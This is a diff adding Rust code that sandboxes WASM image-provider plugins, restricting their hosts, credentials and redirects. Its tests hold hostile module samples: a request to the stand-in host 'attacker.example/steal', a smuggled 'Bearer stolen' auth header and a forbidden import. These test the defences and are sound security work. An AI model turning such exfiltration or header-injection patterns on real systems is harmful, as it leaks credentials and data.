@@ -0,0 +1,646 @@
+use std::sync::Mutex;
+use std::thread;
+use std::time::Duration;
+
+use anyhow::{anyhow, bail, Context, Result};
+use base64::Engine as _;
+use brood_contracts::runs::warnings::{Warning, WarningCode};
+use reqwest::blocking::Client as HttpClient;
+use reqwest::header::{HeaderName, HeaderValue, AUTHORIZATION};
+use reqwest::redirect::Policy as RedirectPolicy;
+use reqwest::{Method, Url};
+use serde_json::{json, Value};
+use wasmtime::{
+    Config, Engine, Instance, Memory, Module, Store, StoreLimits, StoreLimitsBuilder, TypedFunc,
+};
+
+use super::capabilities::ProviderCapabilities;
+use super::credentials::resolve_api_key;
+use super::http_client::http_client_builder;
+use super::http_trace::record_http_response;
+use super::replay::ReplaySend;
+use super::timeouts::{scoped_http, ScopedTimeout, TimeoutKind};
+use super::upscale::image_dims_or;
+use super::{
+    download_image_bytes, map_object, output_extension_from_mime_or_format, parse_dims,
+    timestamp_millis, CustomEndpoint, ImageBytes, ImageProvider, OpenAiProvider,
+    ProviderGenerateRequest, ProviderGenerateResponse, ProviderImageResult, WasmSettings, BASE64,
+};
+
+/// Version of the JSON exchanged with modules, sent as `abi` in every input.
+const WASM_PROVIDER_ABI: u64 = 1;
+
+/// Fuel (roughly, wasm instructions) one guest call may burn.
+const GUEST_FUEL: u64 = 2_000_000_000;
+/// Linear memory cap per module instance.
+const GUEST_MEMORY_LIMIT: usize = 64 * 1024 * 1024;
+/// Largest JSON document a guest call may return.
+const GUEST_OUTPUT_LIMIT: usize = 32 * 1024 * 1024;
+/// Requests one generation may make, polling included.
+const MAX_STEPS: usize = 120;
+const MAX_POLL_DELAY_S: f64 = 30.0;
+
+/// A provider implemented by a WASM module with no imports, so it can reach
+/// nothing but the JSON it is handed. The module builds each HTTP request
+/// and reads each response; the host sends the requests, only to allowed
+/// hosts, adds the API key itself (only for the `base_url` host) and saves
+/// the images.
+///
+/// ABI v1 exports `memory`, `brood_alloc(len) -> ptr`,
+/// `brood_build_request(ptr, len) -> i64` and
+/// `brood_parse_response(ptr, len) -> i64`; the calls take and return UTF-8
+/// JSON, returned as `ptr << 32 | len`.
+pub(crate) struct WasmProvider {
+    name: String,
+    api_base: String,
+    api_key_envs: Vec<String>,
+    wasm: WasmSettings,
+    /// Follows no redirects: a hop could carry the key to another host, so
+    /// the module sees the 3xx and asks again itself.
+    http: HttpClient,
+    /// For image downloads, which carry no key: follows redirects only
+    /// within the allowed hosts.
+    downloads: HttpClient,
+    engine: Engine,
+    /// Compiled on first use, so a broken module fails its generations
+    /// instead of engine startup.
+    module: Mutex<Option<Module>>,
+}
+
+impl WasmProvider {
+    pub(crate) fn new(endpoint: &CustomEndpoint, wasm: &WasmSettings) -> Result<Self> {
+        let mut config = Config::new();
+        config.consume_fuel(true);
+        let engine = Engine::new(&config)
+            .map_err(|err| anyhow!("failed to start wasmtime for {}: {err}", endpoint.name))?;
+        let client = |redirects: RedirectPolicy| {
+            let mut builder = http_client_builder()?.redirect(redirects);
+            if let Some(timeout_s) = endpoint.settings.timeout_s {
+                builder = builder.timeout(Duration::from_secs_f64(timeout_s));
+            }
+            builder
+                .build()
+                .with_context(|| format!("failed to build the HTTP client for {}", endpoint.name))
+        };
+        let base_url = endpoint.settings.base_url.clone();
+        let allowed_hosts = wasm.allowed_hosts.clone();
+        let downloads = client(RedirectPolicy::custom(move |attempt| {
+            if attempt.previous().len() >= 10 {
+                attempt.error("too many redirects")
+            } else if host_allowed(&base_url, &allowed_hosts, attempt.url()) {
+                attempt.follow()
+            } else {
+                attempt.error("redirected to a host the module may not reach")
+            }
+        }))?;
+        Ok(Self {
+            name: endpoint.name.clone(),
+            api_base: endpoint.settings.base_url.clone(),
+            api_key_envs: endpoint.settings.api_key_envs.clone(),
+            wasm: wasm.clone(),
+            http: client(RedirectPolicy::none())?,
+            downloads,
+            engine,
+            module: Mutex::new(None),
+        })
+    }
+
+    fn module(&self) -> Result<Module> {
+        let mut cached = self
+            .module
+            .lock()
+            .map_err(|_| anyhow!("{} module lock poisoned", self.name))?;
+        if let Some(module) = cached.as_ref() {
+            return Ok(module.clone());
+        }
+        let path = &self.wasm.module;
+        let module = Module::from_file(&self.engine, path)
+            .with_context(|| format!("Failed to load WASM provider {}", path.display()))?;
+        if let Some(import) = module.imports().next() {
+            bail!(
+                "WASM provider {} imports {}::{}; provider modules may not import anything",
+                path.display(),
+                import.module(),
+                import.name()
+            );
+        }
+        *cached = Some(module.clone());
+        Ok(module)
+    }
+
+    /// Whether `url` is on the `base_url` host, the only one the key is
+    /// sent to.
+    fn is_base_host(&self, url: &Url) -> bool {
+        url.host_str().map(str::to_ascii_lowercase) == base_host(&self.api_base)
+    }
+
+    /// `url` resolved against `base_url` when it starts with `/`, refused
+    /// when it leaves the allowed hosts.
+    fn resolve_url(&self, url: &str) -> Result<Url> {
+        let absolute = if url.starts_with('/') {
+            format!("{}{url}", self.api_base)
+        } else {
+            url.to_string()
+        };
+        let parsed = Url::parse(&absolute)
+            .with_context(|| format!("{} module returned an invalid URL: {url}", self.name))?;
+        if !host_allowed(&self.api_base, &self.wasm.allowed_hosts, &parsed) {
+            bail!("{} module may not send requests to {absolute}", self.name);
+        }
+        Ok(parsed)
+    }
+
+    /// Sends one module-built request; the reply is what
+    /// `brood_parse_response` sees.
+    fn send(&self, spec: &Value, api_key: Option<&str>, step: usize) -> Result<Value> {
+        let url = self.resolve_url(spec.get("url").and_then(Value::as_str).unwrap_or_default())?;
+        let method = spec
+            .get("method")
+            .and_then(Value::as_str)
+            .unwrap_or("POST")
+            .to_ascii_uppercase();
+        let method = Method::from_bytes(method.as_bytes())
+            .with_context(|| format!("{} module returned an invalid method", self.name))?;
+        let auth_header = HeaderName::from_bytes(self.wasm.auth_header.as_bytes())
+            .with_context(|| format!("{} auth_header is not a valid header", self.name))?;
+
+        let mut builder = scoped_http(&self.http).request(method, url.clone());
+        if let Some(headers) = spec.get("headers").and_then(Value::as_object) {
+            for (name, value) in headers {
+                let Ok(name) = HeaderName::from_bytes(name.as_bytes()) else {
+                    continue;
+                };
+                // Credentials come from the host only.
+                if name == AUTHORIZATION || name == auth_header {
+                    continue;
+                }
+                if let Some(value) = value.as_str().and_then(|v| HeaderValue::from_str(v).ok()) {
+                    builder = builder.header(name, value);
+                }
+            }
+        }
+        if let Some(key) = api_key.filter(|_| self.is_base_host(&url)) {
+            let value = if auth_header == AUTHORIZATION {
+                format!("Bearer {key}")
+            } else {
+                key.to_string()
+            };
+            builder = builder.header(auth_header, value);
+        }
+        if let Some(payload) = spec.get("json") {
+            builder = builder.json(payload);
+        } else if let Some(body) = spec.get("body").and_then(Value::as_str) {
+            builder = builder.body(body.to_string());
+        }
+
+        let response = builder
+            .scoped_timeout(TimeoutKind::Request)
+            .send_replayable()
+            .with_context(|| format!("{} request failed ({url})", self.name))?;
+        let status = response.status().as_u16();
+        let headers: serde_json::Map<String, Value> = response
+            .headers()
+            .iter()
+            .filter_map(|(name, value)| {
+                let value = value.to_str().ok()?;
+                Some((name.as_str().to_string(), Value::String(value.to_string())))
+            })
+            .collect();
+        let bytes = response
+            .bytes()
+            .with_context(|| format!("{} response body read failed", self.name))?;
+        let mut reply = map_object(json!({
+            "step": step,
+            "status": status,
+            "headers": headers,
+            "request": spec,
+        }));
+        match std::str::from_utf8(&bytes) {
+            Ok(text) => {
+                record_http_response(&self.name, url.as_str(), status, text);
+                reply.insert("body".to_string(), Value::String(text.to_string()));
+            }
+            Err(_) => {
+                reply.insert(
+                    "body_base64".to_string(),
+                    Value::String(BASE64.encode(&bytes)),
+                );
+            }
+        }
+        Ok(Value::Object(reply))
+    }
+
+    fn image_bytes(&self, image: &Value) -> Result<ImageBytes> {
+        if let Some(b64) = image.get("b64").and_then(Value::as_str) {
+            let bytes = BASE64
+                .decode(b64.as_bytes())
+                .with_context(|| format!("{} module returned invalid base64", self.name))?;
+            return Ok(ImageBytes::Inline {
+                bytes,
+                mime_type: image
+                    .get("mime")
+                    .and_then(Value::as_str)
+                    .map(str::to_string),
+            });
+        }
+        if let Some(url) = image.get("url").and_then(Value::as_str) {
+            let url = self.resolve_url(url)?;
+            return download_image_bytes(&scoped_http(&self.downloads), url.as_str());
+        }
+        bail!(
+            "{} module returned an image with neither b64 nor url",
+            self.name
+        )
+    }
+}
+
+impl ImageProvider for WasmProvider {
+    fn name(&self) -> &str {
+        &self.name
+    }
+
+    fn capabilities(&self) -> ProviderCapabilities {
+        ProviderCapabilities {
+            deterministic: false,
+            supports_mask: false,
+            supports_reference_images: false,
+            ..ProviderCapabilities::default()
+        }
+    }
+
+    fn generate(&self, request: &ProviderGenerateRequest) -> Result<ProviderGenerateResponse> {
+        let api_key = resolve_api_key(&self.name, &self.api_key_envs);
+        if api_key.is_none() && !self.api_key_envs.is_empty() {
+            bail!("{} not set", self.api_key_envs.join(" or "));
+        }
+        let mut warnings = Vec::new();
+        if OpenAiProvider::has_edit_inputs(request) {
+            warnings.push(
+                Warning::new(
+                    WarningCode::ValueDropped,
+                    format!(
+                        "Provider {} only generates from text; ignoring image inputs.",
+                        self.name
+                    ),
+                )
+                .parameter("init_image"),
+            );
+        }
+        let input = json!({
+            "abi": WASM_PROVIDER_ABI,
+            "provider": self.name,
+            "base_url": self.api_base,
+            "model": request.model,
+            "prompt": request.prompt,
+            "size": request.size,
+            "n": request.n.max(1),
+            "seed": request.seed,
+            "output_format": request.output_format,
+            "background": request.background,
+            "provider_options": request.provider_options,
+        });
+
+        let mut guest = Guest::instantiate(&self.engine, &self.module()?)?;
+        let mut spec = guest
+            .call(Export::BuildRequest, &input)
+            .with_context(|| format!("{} module failed to build a request", self.name))?;
+        let mut urls = Vec::new();
+        let mut status_code = Value::Null;
+        let mut images = None;
+        for step in 0..MAX_STEPS {
+            let mut reply = self.send(&spec, api_key.as_deref(), step)?;
+            urls.push(spec.get("url").cloned().unwrap_or(Value::Null));
+            status_code = reply.get("status").cloned().unwrap_or(Value::Null);
+            reply["generate"] = input.clone();
+            let parsed = guest
+                .call(Export::ParseResponse, &reply)
+                .with_context(|| format!("{} module failed to read a response", self.name))?;
+            warnings.extend(
+                parsed
+                    .get("warnings")
+                    .and_then(Value::as_array)
+                    .into_iter()
+                    .flatten()
+                    .filter_map(Value::as_str)
+                    .map(Warning::note),
+            );
+            if let Some(next) = parsed.get("next") {
+                let delay_s = parsed
+                    .get("delay_s")
+                    .and_then(Value::as_f64)
+                    .unwrap_or(0.0)
+                    .clamp(0.0, MAX_POLL_DELAY_S);
+                thread::sleep(Duration::from_secs_f64(delay_s));
+                spec = next.clone();
+                continue;
+            }
+            images = parsed.get("images").and_then(Value::as_array).cloned();
+            break;
+        }
+        let Some(images) = images else {
+            bail!(
+                "{} module did not finish within {MAX_STEPS} requests",
+                self.name
+            );
+        };
+
+        let fallback_dims = parse_dims(&request.size);
+        let stamp = timestamp_millis();
+        let mut results = Vec::new();
+        for (idx, image) in images.iter().take(request.n.max(1) as usize).enumerate() {
+            let item = self.image_bytes(image)?;
+            let ext = output_extension_from_mime_or_format(
+                item.mime_type().as_deref(),
+                &request.output_format,
+            );
+            let image_path = request
+                .run_dir
+                .join(format!("artifact-{}-{:02}.{}", stamp, idx, ext));
+            let saved = item.save(&image_path)?;
+            let (width, height) = image_dims_or(&image_path, fallback_dims);
+            results.push(ProviderImageResult {
+                image_path,
+                width,
+                height,
+                seed: request.seed,
+                sha256: Some(saved.sha256),
+            });
+        }
+        if results.is_empty() {
+            bail!("{} module returned no images", self.name);
+        }
+
+        Ok(ProviderGenerateResponse {
+            provider_request: map_object(json!({
+                "module": self.wasm.module.display().to_string(),
+                "abi": WASM_PROVIDER_ABI,
+                "urls": urls,
+            })),
+            provider_response: map_object(json!({
+                "status_code": status_code,
+                "data_count": results.len(),
+            })),
+            warnings,
+            results,
+        })
+    }
+}
+
+fn base_host(base_url: &str) -> Option<String> {
+    Url::parse(base_url)
+        .ok()
+        .and_then(|base| base.host_str().map(str::to_ascii_lowercase))
+}
+
+/// Hosts a module may address: the `base_url` host plus `allowed_hosts`,
+/// over HTTP(S).
+fn host_allowed(base_url: &str, allowed_hosts: &[String], url: &Url) -> bool {
+    let Some(host) = url.host_str().map(str::to_ascii_lowercase) else {
+        return false;
+    };
+    matches!(url.scheme(), "http" | "https")
+        && (base_host(base_url).as_deref() == Some(host.as_str()) || allowed_hosts.contains(&host))
+}
+
+#[derive(Clone, Copy)]
+enum Export {
+    BuildRequest,
+    ParseResponse,
+}
+
+/// One instance of a provider module, alive for a single generation so the
+/// module may keep state between its calls.
+struct Guest {
+    store: Store<StoreLimits>,
+    memory: Memory,
+    alloc: TypedFunc<i32, i32>,
+    build_request: TypedFunc<(i32, i32), i64>,
+    parse_response: TypedFunc<(i32, i32), i64>,
+}
+
+impl Guest {
+    fn instantiate(engine: &Engine, module: &Module) -> Result<Self> {
+        let limits = StoreLimitsBuilder::new()
+            .memory_size(GUEST_MEMORY_LIMIT)
+            .instances(1)
+            .build();
+        let mut store = Store::new(engine, limits);
+        store.limiter(|limits| limits);
+        store.set_fuel(GUEST_FUEL)?;
+        let instance = Instance::new(&mut store, module, &[])?;
+        let memory = instance
+            .get_memory(&mut store, "memory")
+            .context("WASM provider does not export its memory")?;
+        Ok(Self {
+            alloc: instance.get_typed_func(&mut store, "brood_alloc")?,
+            build_request: instance.get_typed_func(&mut store, "brood_build_request")?,
+            parse_response: instance.get_typed_func(&mut store, "brood_parse_response")?,
+            memory,
+            store,
+        })
+    }
+
+    /// Hands `input` to an export; an `error` in its output fails the call.
+    fn call(&mut self, export: Export, input: &Value) -> Result<Value> {
+        let bytes = serde_json::to_vec(input)?;
+        let len = i32::try_from(bytes.len()).context("WASM provider input too large")?;
+        self.store.set_fuel(GUEST_FUEL)?;
+        let ptr = self.alloc.call(&mut self.store, len)?;
+        self.memory
+            .write(&mut self.store, ptr as u32 as usize, &bytes)
+            .context("WASM provider returned an out-of-bounds buffer")?;
+        let func = match export {
+            Export::BuildRequest => &self.build_request,
+            Export::ParseResponse => &self.parse_response,
+        };
+        let packed = func.call(&mut self.store, (ptr, len))? as u64;
+        let (out_ptr, out_len) = ((packed >> 32) as usize, (packed & 0xffff_ffff) as usize);
+        if out_len > GUEST_OUTPUT_LIMIT {
+            bail!("WASM provider output is {out_len} bytes, over the {GUEST_OUTPUT_LIMIT} limit");
+        }
+        let mut out = vec![0; out_len];
+        self.memory
+            .read(&self.store, out_ptr, &mut out)
+            .context("WASM provider output is out of bounds")?;
+        let value: Value =
+            serde_json::from_slice(&out).context("WASM provider output is not JSON")?;
+        if let Some(error) = value.get("error") {
+            let message = error
+                .as_str()
+                .map(str::to_string)
+                .unwrap_or(error.to_string());
+            bail!("{message}");
+        }
+        Ok(value)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::sync::Arc;
+
+    use serde_json::{json, Map};
+
+    use super::{Warning, WasmProvider};
+    use crate::credentials::{CredentialScope, RequestCredentials};
+    use crate::test_support::{canned, MockResponse, MockServer, MOCK_API_KEY, MOCK_API_KEY_ENV};
+    use crate::{
+        CredentialRequest, ImageInputs, ImageProvider, ProviderConfig, ProviderGenerateRequest,
+    };
+
+    /// A module answering every `build_request` and `parse_response` with
+    /// fixed JSON.
+    fn fixed_module(build: &str, parse: &str) -> String {
+        let escape = |raw: &str| raw.replace('\\', "\\\\").replace('"', "\\\"");
+        let parse_at = build.len() as u64;
+        format!(
+            r#"(module
+                (memory (export "memory") 2)
+                (data (i32.const 0) "{}")
+                (data (i32.const {parse_at}) "{}")
+                (func (export "brood_alloc") (param i32) (result i32) i32.const 65536)
+                (func (export "brood_build_request") (param i32 i32) (result i64)
+                    i64.const {})
+                (func (export "brood_parse_response") (param i32 i32) (result i64)
+                    i64.const {}))"#,
+            escape(build),
+            escape(parse),
+            build.len(),
+            (parse_at << 32) | parse.len() as u64,
+        )
+    }
+
+    fn provider(
+        server: &MockServer,
+        dir: &std::path::Path,
+        module: &str,
+    ) -> anyhow::Result<WasmProvider> {
+        std::fs::write(dir.join("acme.wat"), module)?;
+        let mut config = ProviderConfig::parse(
+            &json!({"providers": {"acme": {
+                "type": "wasm",
+                "module": "acme.wat",
+                "base_url": server.url(),
+                "api_key_env": MOCK_API_KEY_ENV,
+                "allowed_hosts": ["localhost"],
+                "models": ["acme-1"],
+            }}})
+            .to_string(),
+        )?;
+        config.resolve_modules(dir);
+        let endpoint = &config.custom_endpoints()[0];
+        let wasm = endpoint.wasm.as_ref().expect("wasm settings");
+        WasmProvider::new(endpoint, wasm)
+    }
+
+    /// Serves the mock key the way a tenant keyring would, without touching
+    /// the process environment.
+    fn with_key<T>(call: impl FnOnce() -> T) -> T {
+        let keys = Arc::new(|_: &CredentialRequest| Some(MOCK_API_KEY.to_string()));
+        let _scope = CredentialScope::begin("acme", RequestCredentials::default(), Some(keys));
+        call()
+    }
+
+    fn request(run_dir: &std::path::Path) -> ProviderGenerateRequest {
+        ProviderGenerateRequest {
+            run_dir: run_dir.to_path_buf(),
+            prompt: "a boat".to_string(),
+            size: "64x64".to_string(),
+            n: 1,
+            seed: None,
+            output_format: "png".to_string(),
+            background: None,
+            inputs: ImageInputs::default(),
+            model: "acme-1".to_string(),
+            provider_options: Map::new(),
+            metadata: Map::new(),
+        }
+    }
+
+    #[test]
+    fn module_builds_requests_and_host_sends_them() -> anyhow::Result<()> {
+        let server = MockServer::start()?;
+        server.mock(
+            "POST",
+            "/generate",
+            MockResponse::json(200, json!({"id": "g1"})),
+        );
+        server.mock(
+            "GET",
+            "/files/out.png",
+            canned::image_png(canned::png(12, 8)),
+        );
+        let temp = tempfile::tempdir()?;
+        let module = fixed_module(
+            r#"{"method": "POST", "url": "/generate", "headers": {"Authorization": "Bearer stolen", "X-Trace": "1"}, "json": {"prompt": "fixed"}}"#,
+            r#"{"images": [{"url": "/files/out.png"}], "warnings": ["acme is in beta"]}"#,
+        );
+        let provider = provider(&server, temp.path(), &module)?;
+
+        let response = with_key(|| provider.generate(&request(temp.path())))?;
+        assert_eq!(response.results.len(), 1);
+        assert_eq!(
+            (response.results[0].width, response.results[0].height),
+            (12, 8)
+        );
+        assert_eq!(response.warnings, vec![Warning::note("acme is in beta")]);
+
+        let requests = server.requests();
+        let sent = requests
+            .iter()
+            .find(|request| request.path == "/generate")
+            .expect("generate request");
+        assert_eq!(
+            sent.header("authorization"),
+            Some(format!("Bearer {MOCK_API_KEY}").as_str())
+        );
+        assert_eq!(sent.header("x-trace"), Some("1"));
+        assert_eq!(sent.json(), Some(json!({"prompt": "fixed"})));
+        Ok(())
+    }
+
+    #[test]
+    fn key_goes_only_to_the_base_host_and_redirects_are_not_followed() -> anyhow::Result<()> {
+        let server = MockServer::start()?;
+        server.mock(
+            "POST",
+            "/generate",
+            MockResponse::json(302, json!({})).with_header("location", "/elsewhere"),
+        );
+        let temp = tempfile::tempdir()?;
+        // `localhost` is an allowed host but not the `base_url` host.
+        let other_host = server.url().replace("127.0.0.1", "localhost");
+        let module = fixed_module(
+            &format!(r#"{{"url": "{other_host}/generate"}}"#),
+            r#"{"error": "stop"}"#,
+        );
+        let err =
+            with_key(|| provider(&server, temp.path(), &module)?.generate(&request(temp.path())))
+                .expect_err("module stops");
+        assert!(format!("{err:#}").contains("stop"), "{err:#}");
+        let requests = server.requests();
+        assert_eq!(requests.len(), 1, "the redirect was followed");
+        assert_eq!(requests[0].header("authorization"), None);
+        Ok(())
+    }
+
+    #[test]
+    fn module_cannot_reach_other_hosts_or_import_functions() -> anyhow::Result<()> {
+        let server = MockServer::start()?;
+        let temp = tempfile::tempdir()?;
+        let module = fixed_module(r#"{"url": "https://attacker.example/steal"}"#, "{}");
+        let err =
+            with_key(|| provider(&server, temp.path(), &module)?.generate(&request(temp.path())))
+                .expect_err("foreign host");
+        assert!(err.to_string().contains("may not send requests"), "{err:#}");
+        assert!(server.requests().is_empty());
+
+        let importing = r#"(module (import "wasi_snapshot_preview1" "fd_write"
+            (func (param i32 i32 i32 i32) (result i32))))"#;
+        let err =
+            with_key(|| provider(&server, temp.path(), importing)?.generate(&request(temp.path())))
+                .expect_err("imports");
+        assert!(err.to_string().contains("may not import"), "{err:#}");
+        Ok(())
+    }
+}